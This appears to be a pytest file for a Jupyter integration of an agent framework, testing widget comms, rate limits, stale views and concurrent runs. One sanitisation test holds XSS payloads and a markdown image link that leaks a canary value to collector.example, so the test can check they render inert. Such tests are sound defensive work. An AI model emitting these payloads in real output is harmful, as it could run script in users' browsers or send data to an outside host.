"""Live cards on the wire: their comms, their frames, their settling."""

from pathlib import Path

import pytest
from kernel.driver import WIDGET, Kernel

pytestmark = pytest.mark.kernel

FLOOD = 100_000
OF_A_CARD = 2  # itself and its layout


def test_running_a_cell_twenty_times_leaves_no_comms(page: Kernel):
    for _ in range(20):
        cell = page.start("%%bread writer\nhi", cell="again")
        page.view(page.card(cell)).state("finished")
        page.finish(cell)
    page.wait(lambda: len(open_comms(page)) == OF_A_CARD, "one card's comms")
    assert page.comms() == open_comms(page)
    for _ in range(5):
        page.ok("%%bread publisher\nwaits", cell="waits")
    page.ok("%bread cancel last")
    page.ok("1")
    page.wait(lambda: len(open_comms(page)) <= OF_A_CARD, "no more than before")


def open_comms(page: Kernel) -> set[str]:
    """The comms that the kernel has opened and not closed."""
    told = [(m["msg_type"], m["content"]) for m in tuple(page.messages)]
    opened = {c["comm_id"] for kind, c in told if kind == "comm_open"}
    return opened - {c["comm_id"] for kind, c in told if kind == "comm_close"}


def test_there_is_no_card_where_nobody_looks(page: Kernel):
    result = page.ok("%%bread publisher\nhi", watched=False)
    assert result.outputs[0] == {}
    assert not page.of(result.msg_id, "comm_open")
    page.ok("%bread cancel last")


def test_an_ended_card_is_settled_when_the_next_cell_starts(page: Kernel):
    cell = page.start("%%bread writer\nhi")
    page.view(page.card(cell)).state("finished")
    assert WIDGET in page.finish(cell).outputs[0]
    page.ok("1")
    assert page.result(cell).outputs[0] == {}


def test_a_waiting_card_stays_when_the_next_cell_starts(page: Kernel):
    cell = page.start("%%bread publisher\nhi")
    view = page.view(page.card(cell))
    view.form()
    page.finish(cell)
    page.ok("1")
    assert WIDGET in page.result(cell).outputs[0]
    assert view.result(view.act("end"))["ok"]


def test_no_view_in_three_seconds_means_a_line_of_text(page: Kernel):
    page.ok(
        "go = threading.Event()\n"
        "@tool\n"
        "def hold() -> str:\n"
        "    go.wait(30)\n"
        "    return 'held'\n"
        "holder = Agent(model=Scripted([{'calls': [{'name': 'tool_hold'}]}, 'ok']),\n"
        "    tools=[hold])"
    )
    cell = page.start("%%bread holder\nhi")
    page.card(cell)
    line = page.wait(lambda: page.result(cell).plain, "the line of text")[0]
    assert line.startswith("holder: running hold, 0:0")
    assert line.endswith("Interrupt the kernel to stop.")
    page.run_aside("go.set()")
    result = page.finish(cell)
    assert result.plain[-1].startswith("holder finished")


def test_two_runs_at_once_keep_to_their_own_cells(page: Kernel):
    page.ok(
        "steps = {name: asyncio.Event() for name in 'ab'}\n"
        "def agent_of(name):\n"
        "    @tool\n"
        "    async def step() -> str:\n"
        "        print(f'printed by {name}')\n"
        "        await steps[name].wait()\n"
        "        return f'result of {name}'\n"
        "    return Agent(name=name, tools=[step], model=Scripted(\n"
        "        [{'calls': [{'name': 'tool_step'}]}, f'end of {name}']))\n"
        "bread = Bread.load()\n"
        "loop = Bread.common_home.loop()"
    )
    first = page.start("bread.run(agent_of('a'), 'hi')")
    a = page.view(page.card(first))
    page.finish(first)
    second = page.start("bread.run(agent_of('b'), 'hi')")
    b = page.view(page.card(second))
    page.finish(second)
    a.state("tools")
    b.state("tools")
    assert page.ok("print('two')").stdout == "two\n"
    other = page.ok("for e in steps.values(): loop.call_soon_threadsafe(e.set)")
    for view, cell, name in ((a, first, "a"), (b, second, "b")):
        view.state("finished")
        page.wait(lambda c=cell: page.result(c).plain, "the picture")
        result = page.result(cell)
        assert result.stdout == f"printed by {name}\n"
        assert f"end of {name}" in result.plain[-1]
        told = repr(view.data)
        assert f"result of {name}" in told
        assert f"result of {'ab'.replace(name, '')}" not in told
    assert page.result(other.msg_id).outputs == []


def test_background_work_stays_out_of_other_cells(page: Kernel):
    page.ok(
        "begun, more = threading.Event(), asyncio.Event()\n"
        "@tool\n"
        "async def work() -> str:\n"
        "    begun.set()\n"
        "    await more.wait()\n"
        "    print('late')\n"
        "    return 'worked'\n"
        "slow = Agent(model=Scripted([{'calls': [{'name': 'tool_work'}]}, 'end']),\n"
        "    tools=[work])"
    )
    first = page.start("Bread.load().run(slow, 'hi')")
    view = page.view(page.card(first))
    page.finish(first)
    second = page.start(
        "begun.wait(10); print('two')\n"
        "Bread.common_home.loop().call_soon_threadsafe(more.set); None"
    )
    page.finish(second)
    view.state("finished")
    page.wait(lambda: page.result(first).plain, "the picture")
    assert page.result(second).stdout == "two\n"
    assert page.result(second).outputs == []
    assert page.result(first).stdout == "late\n"
    mine = {
        m["parent_header"]["msg_id"]
        for m in page.messages
        if m["msg_type"] == "comm_msg"
        and m["content"]["comm_id"] == view.model
        and m["content"]["data"]["content"]["t"] == "frame"
    }
    assert mine == {first}


def test_a_flood_of_text_arrives_whole_in_few_messages(page: Kernel):
    page.ok(
        f"text = ''.join(chr(97 + n % 26) for n in range({FLOOD}))\n"
        "flood = Agent(model=Scripted([{'deltas': list(text)}], repeat_last=True))"
    )
    cell = page.start("%%bread flood\nhi")
    view = page.view(page.card(cell))
    page.finish(cell, 60)
    view.state("finished", 60)
    shown = [b["text"] for b in view.look().data["b"].values() if "text" in b]
    assert "".join(shown) == "".join(chr(97 + n % 26) for n in range(FLOOD))
    frames = [m for m in view.heard() if m["t"] in ("frame", "snapshot")]
    assert len(frames) <= 500
    assert sum(len(str(m)) for m in frames) <= 5 * FLOOD
    assert view.gaps == 0


def test_no_more_than_twenty_messages_a_second_over_all_cards(page: Kernel):
    page.ok(
        "def stream(request):\n"
        "    return {'deltas': ['word '] * 400, 'delay': 0.005}\n"
        "talkers = [Agent(name=f't{n}', model=Scripted([stream])) for n in range(4)]"
    )
    cells = [
        page.start(f"Bread.load().run(talkers[{n}], 'hi')", cell=f"talk-{n}")
        for n in range(4)
    ]
    views = [page.view(page.card(cell)) for cell in cells]
    for view in views:
        view.state("finished", 30)
        assert view.gaps == 0
    stamps = sorted(
        m["header"]["date"].timestamp()
        for m in page.messages
        if m["msg_type"] == "comm_msg"
        and m["content"]["comm_id"] in {v.model for v in views}
        and m["content"]["data"]["content"]["t"] == "frame"
    )
    for at, stamp in enumerate(stamps):
        within = sum(stamp <= later < stamp + 1 for later in stamps[at:])
        assert within <= 21
    for cell in cells:
        page.finish(cell)


def test_a_late_view_gets_the_whole(page: Kernel):
    cell = page.start("%%bread publisher\nhi")
    first = page.view(page.card(cell))
    first.form()
    page.finish(cell)
    late = page.view(first.model)
    late.form()
    assert late.look().data["b"] == first.look().data["b"]
    first.bye()
    late.answer(late.form(), {"approved": True})
    late.state("finished")
    assert late.gaps == 0


def test_an_earlier_moment_is_a_card_that_cannot_be_pressed(page: Kernel):
    cell = page.start("%%bread publisher\nhi")
    view = page.view(page.card(cell))
    view.form()
    page.finish(cell)
    assert view.result(view.act("asof", n=1))["ok"] is True
    past = [m for m in view.heard() if m["t"] == "snapshot"][-1]
    assert past["asof"] == 1
    head = past["messages"][-1]["updateDataModel"]["value"]["head"]
    assert (head["state"], head["button"], head["ticking"]) != ("waiting", "end", True)
    assert view.result(view.act("asof", n=None))["ok"] is True
    now = [m for m in view.heard() if m["t"] == "snapshot"][-1]
    assert now["asof"] is None
    assert view.result(view.act("asof", n="x"))["ok"] is False
    assert view.result(view.act("end"))["ok"] is True


def test_a_page_that_was_reloaded_is_told_that_its_copy_is_old(page: Kernel):
    cell = page.start("%%bread publisher\nhi")
    view = page.view(page.card(cell))
    view.form()
    page.finish(cell)
    session, page.client.session.session = page.client.session.session, "reloaded"
    late = page.view(view.model)
    late.form()
    late.answer(late.form(), {"approved": True})
    late.state("finished")
    page.client.session.session = session
    stale = page.wait(
        lambda: [m for m in late.heard() if m["t"] == "stale"], "the note"
    )
    assert stale[0]["view"] == late.name
    assert not [m for m in view.heard() if m["t"] == "stale"]


def test_show_brings_the_whole_card_back(page: Kernel):
    page.ok("%%bread writer\nhi")
    cell = page.start("%bread show last")
    view = page.view(page.card(cell))
    view.state("finished")
    result = page.finish(cell)
    assert "Bread is **good**." in repr(view.look().data["b"])
    assert result.plain[-1].startswith("writer finished")


def test_a_session_a_person_named_is_on_the_card(page: Kernel, project: Path):
    cell = page.start("%%bread writer --session blog\nhi")
    view = page.view(page.card(cell))
    view.state("finished")
    assert view.head()["session"] == "blog"
    page.finish(cell)


def test_script_in_text_and_results_is_text_in_the_saved_output(page: Kernel):
    page.ok(
        "evil = '<script>alert(1)</script> <img src=x onerror=alert(1)> '\\\n"
        "    '[a](javascript:alert(1)) <svg onload=alert(1)> '\\\n"
        "    '![leak](https://collector.example/p?d=CANARY)'\n"
        "@tool\n"
        "def fetch() -> str: return evil\n"
        "bad = Agent(model=Scripted([{'calls': [{'name': 'tool_fetch'}]}, evil]),\n"
        "    tools=[fetch])"
    )
    html = page.ok("%bread bad hi", watched=False).outputs[-1]["text/html"]
    for live in ("<script", "<img", "<svg", 'href="javascript'):
        assert live not in html
    assert "collector.example" in html


def test_an_agent_with_a_name_for_people_is_called_by_it(page: Kernel):
    page.ok("kind = Agent(name='Kind baker', model=Scripted(['yes']))")
    cell = page.start("%%bread kind\nhi")
    view = page.view(page.card(cell))
    view.state("finished")
    assert view.head()["agent"] == "Kind baker"
    page.finish(cell)


def test_a_run_that_works_longer_leaves_a_line_that_stays(page: Kernel):
    """A page that is loaded anew gets no more updates of what it saved."""
    page.ok(
        "hours = threading.Event()\n"
        "@tool\n"
        "def bake() -> str:\n"
        "    hours.wait(60)\n"
        "    return 'baked'\n"
        "oven = Agent(model=Scripted([{'calls': [{'name': 'tool_bake'}]}, 'ok']),\n"
        "    tools=[bake])"
    )
    cell = page.start("%%bread oven\nhi")
    view = page.view(page.card(cell))
    line = page.wait(lambda: page.result(cell).plain, "the line that stays")[0]
    assert line == (
        "oven is still at work. If this line stays, run %load_ext bread_nb, "
        "then %bread runs: it tells how the run ended."
    )
    assert view.head()["run"] == "oven-1"
    page.run_aside("hours.set()")
    result = page.finish(cell)
    assert [p.split(" · ")[0] for p in result.plain] == ["oven finished"]
    assert len(result.outputs) == 2
